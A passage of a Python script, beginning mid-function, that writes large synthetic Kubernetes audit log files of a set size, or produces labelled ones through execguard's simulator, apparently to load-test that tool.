            m1 = min(m + 300 + (m & 0x3FFF), 999_999)
            t1 = prefix + ms[m1 // 1000] + ms[m1 % 1000] + b"Z"
            for p in tpl:
                if len(p) == 4:
                    buf.append(p[0] + aid + p[1] + t0 + p[2] + t1 + p[3] + b"\n")
                else:
                    buf.append(p[0] + aid + p[1] + t0 + p[2] + t0 + p[3] + b"\n")
        data = b"".join(buf)
        if written + len(data) > size:
            cut = data.rfind(b"\n", 0, size - written) + 1
            data = data[:cut] if cut else b""
            if not data:
                break
        out.write(data)
        written += len(data)
        lines += data.count(b"\n")
    return written, lines


def from_simulate(output: str, size: int, seed: int) -> int:
    """The same kind of file from execguard's own labelled simulator, sized by a small probe run."""
    import shutil
    import tempfile
    from pathlib import Path

    from execguard.sim.simulate import write

    if output == "-" or output.endswith(".gz"):
        print("--simulate writes a plain file: give -o FILE", file=sys.stderr)
        return 2
    t = time.perf_counter()
    with tempfile.TemporaryDirectory(dir=Path(output).resolve().parent) as tmp:
        write(Path(tmp) / "probe", "all", "k8s-audit", 2000, seed)
        per_event = (Path(tmp) / "probe" / "k8s-audit.jsonl").stat().st_size / 2000
        write(Path(tmp) / "big", "all", "k8s-audit", max(1, int(size / per_event)), seed)
        shutil.move(str(Path(tmp) / "big" / "k8s-audit.jsonl"), output)
        shutil.move(str(Path(tmp) / "big" / "labels.jsonl"), output + ".labels.jsonl")
    written = Path(output).stat().st_size
    dt = time.perf_counter() - t
    print(f"{written / 1e6:.1f} MB from execguard simulate in {dt:.1f} s; labels in {output}.labels.jsonl", file=sys.stderr)
    return 0


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--size", default="100M", help="bytes to write: 500M, 1G, 5G (the file ends on a whole line at or below it)")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--start", default="2024-05-14T09:00:00", help="UTC time of the first event")
    ap.add_argument("-o", "--output", default="-", help="file to write ('.gz' compresses, level 1); - for stdout")
    ap.add_argument(
        "--simulate",
        action="store_true",
        help="make the file with `execguard simulate` (all scenarios, k8s-audit format, labelled) instead; slower",
    )
    args = ap.parse_args(argv)
    size = parse_size(args.size)
    if args.simulate:
        return from_simulate(args.output, size, args.seed)
    start = datetime.fromisoformat(args.start).replace(tzinfo=UTC)
    t = time.perf_counter()
    if args.output == "-":
        written, lines = generate(sys.stdout.buffer, size, args.seed, start)
    elif args.output.endswith(".gz"):
        with gzip.open(args.output, "wb", compresslevel=1) as f:
            written, lines = generate(f, size, args.seed, start)
    else:
        with open(args.output, "wb", buffering=16 << 20) as f:
            written, lines = generate(f, size, args.seed, start)
    dt = time.perf_counter() - t
    print(f"{written / 1e6:.1f} MB, {lines} lines in {dt:.1f} s ({written / 1e6 / dt:.0f} MB/s)", file=sys.stderr)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
